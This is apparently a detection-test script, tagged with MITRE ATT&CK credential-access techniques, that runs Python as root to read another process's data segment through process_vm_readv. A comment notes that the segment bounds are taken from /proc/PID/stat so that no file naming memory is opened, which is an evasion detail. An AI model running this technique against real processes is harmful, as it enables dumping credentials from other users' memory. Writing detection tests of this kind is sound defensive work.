#!/usr/bin/env bash
# tactic: credential-access
# technique: T1003.007 OS Credential Dumping: Proc Filesystem; T1055 Process Injection (memory access)
# behaviour: Python reads another user's process memory with process_vm_readv through ctypes (no /proc/PID/mem, no debugger)
# as: root
# expect: process_memory_access
set -u
python3 - "$SNTL_VICTIM_PID" <<'PY'
import ctypes, re, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(iovec), ctypes.c_ulong, ctypes.POINTER(iovec), ctypes.c_ulong, ctypes.c_ulong]
libc.process_vm_readv.restype = ctypes.c_ssize_t
# The data segment's bounds from /proc/PID/stat (what ps reads), not maps: no file that names memory is opened.
f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
a, b = int(f[42]), int(f[43])
n = max(0, min(b - a, 65536))
buf = ctypes.create_string_buffer(n or 1)
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), n), iovec(a, n)
print(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
PY
